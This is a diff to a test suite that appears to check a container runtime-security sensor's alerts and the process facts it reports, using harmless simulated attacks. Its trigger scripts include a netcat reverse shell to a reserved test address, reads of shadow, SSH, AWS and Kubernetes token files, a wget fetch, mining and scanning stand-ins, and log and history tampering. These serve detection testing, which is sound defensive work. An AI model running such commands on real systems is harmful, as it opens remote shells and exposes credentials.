@@ -17,7 +17,7 @@ last command is a child of the shell (busybox's shell would exec a sole last com
 from __future__ import annotations
 
 import time
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from typing import Any
 
 import pytest
@@ -45,6 +45,13 @@ class Family:
     shm_exec: bool = False
     #: why the fallback sensors cannot see it (None: they must)
     fallback_blind: str | None = None
+    #: the acting process's proc.args ("" none; None: not checked); the script's shell's are
+    #: "-c <script>"
+    args: str | None = ""
+    #: its proc.exepath, in the container's (or the sandbox's) own view
+    exepath: str | None = "/bin/busybox"
+    #: the rule the fallback sensors raise instead (they cannot see the syscall the rule reads)
+    fallback_rule: str | None = None
 
 
 CONNTRACK_NETNS = "conntrack follows the host's network namespace, not a container's own"
@@ -63,48 +70,59 @@ FAMILIES: dict[str, Family] = {
         "Password Database Read in Container",
         "echo 'root:*:19000:0:99999:7:::' > /etc/shadow; /bin/cat /etc/shadow >/dev/null; exit 0",
         "cat",
+        args="/etc/shadow",
     ),
     "ssh private key read": Family(
         "SSH Private Key Read in Container",
         "mkdir -p /root/.ssh; echo key > /root/.ssh/id_ed25519; /bin/cat /root/.ssh/id_ed25519 >/dev/null; exit 0",
         "cat",
+        args="/root/.ssh/id_ed25519",
     ),
     "cloud credentials read": Family(
         "Cloud Credentials Read in Container",
         "mkdir -p /root/.aws; echo '[default]' > /root/.aws/credentials;"
         " /bin/cat /root/.aws/credentials >/dev/null; exit 0",
         "cat",
+        args="/root/.aws/credentials",
     ),
     "service account token read": Family(
         "Service Account Token Read by Tool in Container",
         "d=/var/run/secrets/kubernetes.io/serviceaccount; mkdir -p $d; echo jwt > $d/token;"
         " /bin/cat $d/token >/dev/null; exit 0",
         "cat",
+        args="/var/run/secrets/kubernetes.io/serviceaccount/token",
     ),
     # -- writes below binary directories and /etc
     "write below a binary directory": Family(
         "Write Below Binary Directory in Container",
         "mkdir -p /usr/local/bin; /bin/cp /bin/busybox /usr/local/bin/stk-tool; exit 0",
         "cp",
+        args="/bin/busybox /usr/local/bin/stk-tool",
     ),
     "write below /etc": Family(
         "Write Below Etc in Container", "echo x > /etc/stockade-test; exit 0", "sh", by_shell=True
     ),
     # -- software at runtime and drift
     "package manager": Family(
-        "Package Manager Run in Container", "/bin/dpkg -i /tmp/stk-none.deb 2>/dev/null; exit 0", "dpkg"
+        "Package Manager Run in Container",
+        "/bin/dpkg -i /tmp/stk-none.deb 2>/dev/null; exit 0",
+        "dpkg",
+        args="-i /tmp/stk-none.deb",
     ),
     "drift": Family(
         "Binary Not in Image Executed in Container",
         "/bin/cp /bin/busybox /tmp/bb && /tmp/bb true; exit 0",
         "bb",
         on_host=False,
+        args="true",
+        exepath="/tmp/bb",
     ),
     # -- crypto mining
     "crypto miner": Family(
         "Crypto Miner Run in Container",
         "/bin/ln -sf /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://192.0.2.10:3333 2>/dev/null; exit 0",
         "xmrig",
+        args="-o stratum+tcp://192.0.2.10:3333",
     ),
     "stratum connection": Family(
         "Mining Pool Connection from Container",
@@ -112,17 +130,20 @@ FAMILIES: dict[str, Family] = {
         "nc",
         net=True,
         fallback_blind=CONNTRACK_NETNS,
+        args="192.0.2.10 3333",
     ),
     # -- reverse shells and scanners
     "reverse shell": Family(
         "Reverse Shell Command in Container",
         "/bin/nc -w 1 192.0.2.10 4444 -e /bin/sh 2>/dev/null; exit 0",
         "nc",
+        args="-w 1 192.0.2.10 4444 -e /bin/sh",
     ),
     "network scanner": Family(
         "Network Scanner Run in Container",
         "/bin/ln -sf /bin/busybox /tmp/nmap; /tmp/nmap -sS 192.0.2.0/24 2>/dev/null; exit 0",
         "nmap",
+        args="-sS 192.0.2.0/24",
     ),
     "shell, download, connect": Family(
         "Shell, Download, Connect in Container",
@@ -130,6 +151,7 @@ FAMILIES: dict[str, Family] = {
         "wget",
         net=True,
         fallback_blind=CONNTRACK_NETNS,
+        args="-q -O /dev/null http://192.0.2.10:8080/",
     ),
     # -- escapes
     "cgroup release_agent": Family(
@@ -142,60 +164,79 @@ FAMILIES: dict[str, Family] = {
         "Host Root Access via Proc in Container",
         "/bin/cat /proc/1/root/etc/hostname >/dev/null 2>&1; exit 0",
         "cat",
+        args="/proc/1/root/etc/hostname",
     ),
     "runtime socket": Family(
         "Container Runtime Socket Access in Container",
         "/bin/ls -l /var/run/docker.sock 2>/dev/null; exit 0",
         "ls",
+        args="-l /var/run/docker.sock",
     ),
     "nsenter": Family(
-        "Namespace Tool Run in Container", "/bin/nsenter --help 2>/dev/null; exit 0", "nsenter"
+        "Namespace Tool Run in Container", "/bin/nsenter --help 2>/dev/null; exit 0", "nsenter", args="--help"
     ),
     "mount": Family(
-        "Mount Attempt in Container", "/bin/mount -t tmpfs none /mnt 2>/dev/null; exit 0", "mount"
+        "Mount Attempt in Container",
+        "/bin/mount -t tmpfs none /mnt 2>/dev/null; exit 0",
+        "mount",
+        args="-t tmpfs none /mnt",
     ),
     "kernel module": Family(
         "Kernel Module Loaded from Container",
         ": > /tmp/stk.ko; /bin/insmod /tmp/stk.ko 2>/dev/null; exit 0",
         "insmod",
+        args="/tmp/stk.ko",
     ),
     # -- defense evasion
     "log tampering": Family(
         "Log File Tampering in Container",
         "mkdir -p /var/log; echo entry >> /var/log/app.log; /bin/rm -f /var/log/app.log; exit 0",
         "rm",
+        args="-f /var/log/app.log",
     ),
     "history cleared": Family(
         "Shell History Cleared in Container",
         "echo ls >> /root/.ash_history; /bin/ln -sf /dev/null /root/.ash_history; exit 0",
         "ln",
+        args="-sf /dev/null /root/.ash_history",
     ),
     "ptrace": Family(
         "Ptrace Attach in Container",
         "/bin/stk-attack ptrace; exit 0",
         "stk-attack",
         fallback_blind="no ptrace events without eBPF (the sensor reports ptrace as missing)",
+        args="ptrace",
+        exepath="/bin/stk-attack",
     ),
     "fileless (memfd)": Family(
         "Fileless Execution in Container",
         "/bin/stk-attack memfd-exec /bin/busybox true; exit 0",
         # the kernel names a program run from a file descriptor after the descriptor
         "",
+        args=None,
+        exepath=None,
     ),
     "execution from /dev/shm": Family(
         "Execution from Shared Memory in Container",
         "/bin/cp /bin/busybox /dev/shm/stk && /dev/shm/stk true; exit 0",
         "stk",
         shm_exec=True,
+        args="true",
+        exepath="/dev/shm/stk",
     ),
     # -- privilege escalation
     "setuid bit": Family(
-        "Setuid Bit Set in Container", "touch /tmp/s; /bin/chmod u+s /tmp/s; exit 0", "chmod"
+        "Setuid Bit Set in Container",
+        "touch /tmp/s; /bin/chmod u+s /tmp/s; exit 0",
+        "chmod",
+        args="u+s /tmp/s",
+        fallback_rule="Setuid Command Run in Container",
     ),
     "file capabilities": Family(
         "File Capabilities Set in Container",
         "/bin/ln -sf /bin/busybox /tmp/setcap; /tmp/setcap cap_setuid+ep /tmp/s 2>/dev/null; exit 0",
         "setcap",
+        args="cap_setuid+ep /tmp/s",
     ),
     # -- persistence and accounts
     "cron": Family(
@@ -214,6 +255,7 @@ FAMILIES: dict[str, Family] = {
         "User Account Created in Container",
         "/bin/ln -sf /bin/busybox /tmp/useradd; /tmp/useradd -m stk 2>/dev/null; exit 0",
         "useradd",
+        args="-m stk",
     ),
     "account database": Family(
         "Account Database Modified in Container",
@@ -229,7 +271,7 @@ FAMILIES: dict[str, Family] = {
     ),
     # -- discovery
     "discovery burst": Family(
-        "Discovery Burst in Container", "/bin/id; /bin/uname -a; /bin/ip addr; exit 0", "ip"
+        "Discovery Burst in Container", "/bin/id; /bin/uname -a; /bin/ip addr; exit 0", "ip", args="addr"
     ),
 }
 
@@ -243,6 +285,33 @@ def _check_process(fam: Family, f: dict[str, Any], shell_parent: tuple[str, ...]
     else:
         assert f["proc.pname"] == "sh", f
         assert str(f["proc.aname[2]"]).startswith(shell_parent), f
+
+
+def _check_facts(fam: Family, f: dict[str, Any], *, cwd_may_be_unknown: bool = False) -> None:
+    """The process's facts as libsinsp defines them, in the process's own view: its whole command
+    line (proc.cmdline = proc.name + proc.args), its executable and its working directory inside the
+    container (or the sandbox's chroot), never the host's path to them."""
+    args = "-c " + fam.script if fam.by_shell else fam.args
+    if args is not None:
+        assert f["proc.args"] == args, f
+        assert f["proc.cmdline"] == (f"{f['proc.name']} {args}" if args else f["proc.name"]), f
+    if fam.exepath is not None:
+        assert f["proc.exepath"] == fam.exepath, f
+    # every exec'd script runs in the root directory (runc's process.cwd, podman's default workdir,
+    # the sandbox's chroot); proc.cwd ends with "/" as libsinsp writes it
+    if not (cwd_may_be_unknown and f.get("proc.cwd") is None):
+        assert f["proc.cwd"] == "/", f
+
+
+def _never_the_host(node: Any, fam: Family, mark: int) -> None:
+    """No alert of the behaviour was given to the host: a process below the container's runtime
+    (a runtime's exec joins the container before its program runs) is the container's or unknown."""
+    for a in node.alerts[mark:]:
+        f = a.output_fields
+        if a.rule != fam.rule or f.get("container.id") != "host":
+            continue
+        ancestry = [f.get("proc.pname"), *(f.get(f"proc.aname[{i}]") for i in (2, 3, 4))]
+        assert not any(str(x).startswith(RUNTIME_PARENTS) for x in ancestry if x), f
 
 
 def _found(
@@ -275,7 +344,9 @@ def _in_container(node: Any, c: Any, fam: Family, retry_s: float = 10.0) -> dict
         c.exec(["/bin/sh", "-c", fam.script])
 
     act()
-    return _found(node, fam, c.id[:12], mark, act, retry_s)
+    found = _found(node, fam, c.id[:12], mark, act, retry_s)
+    _never_the_host(node, fam, mark)
+    return found
 
 
 @pytest.mark.parametrize("family", sorted(FAMILIES))
@@ -284,6 +355,7 @@ def test_in_a_runc_container(node: Any, runc_container: Any, family: str) -> Non
     c = runc_container(caps=["CAP_NET_ADMIN"] if fam.net else [], shm_exec=fam.shm_exec)
     f = _in_container(node, c, fam)
     _check_process(fam, f, RUNTIME_PARENTS)
+    _check_facts(fam, f)
     # runc has no image: the bundle's root filesystem is the container's
     assert f.get("container.image.repository") in (None, "")
 
@@ -294,6 +366,7 @@ def test_in_a_podman_container(node: Any, podman_container: Any, family: str) ->
     c = podman_container(caps=["NET_ADMIN"] if fam.net else [], shm_exec=fam.shm_exec)
     f = _in_container(node, c, fam)
     _check_process(fam, f, RUNTIME_PARENTS)
+    _check_facts(fam, f)
     assert f.get("container.image.repository") == IMAGE, node.diagnosis()
     assert f.get("container.image.tag") == "latest"
     if "user.name" in f:  # the image's own /etc/passwd names uid 0
@@ -312,6 +385,7 @@ def test_on_the_host(node: Any, host_sandbox: Any, family: str) -> None:
     f = _found(node, fam, "host", mark, act)
     # the sandbox's shell is started by unshare (which forks, chroots, mounts /proc and execs it)
     _check_process(fam, f, ("unshare",))
+    _check_facts(fam, f)
     assert f.get("container.image.repository") in (None, "")
 
 
@@ -327,12 +401,16 @@ def test_in_a_podman_container_with_the_fallback_sensors(
         if "ptrace" in fam.fallback_blind:
             assert "ptrace" in fallback_node.sensor.plan.missing_evttypes
         pytest.skip(f"the fallback sensors cannot see it: {fam.fallback_blind}")
+    if fam.fallback_rule:
+        fam = replace(fam, rule=fam.fallback_rule)
     c = podman_container(caps=["NET_ADMIN"] if fam.net else [], shm_exec=fam.shm_exec)
     time.sleep(0.3)  # the container's root is watched from its first event on
     # the proc connector names only the pid: a process gone before its /proc entry was read has no
     # command line (a known race of this sensor, counted in its exec_unread): repeat it sooner
     f = _in_container(fallback_node, c, fam, retry_s=2.0)
     assert f.get("container.image.repository") == IMAGE, fallback_node.diagnosis()
+    # the alert is for the acting process (its name matched): its facts were read with its name
+    _check_facts(fam, f, cwd_may_be_unknown=True)
     # ancestry is not asserted here: fanotify's and the proc connector's events reach the process
     # table in no guaranteed order, so a file event can come before its process's fork and exec
     # (seen once in eight runs: a cat whose parent read as runc); the eBPF tests assert it
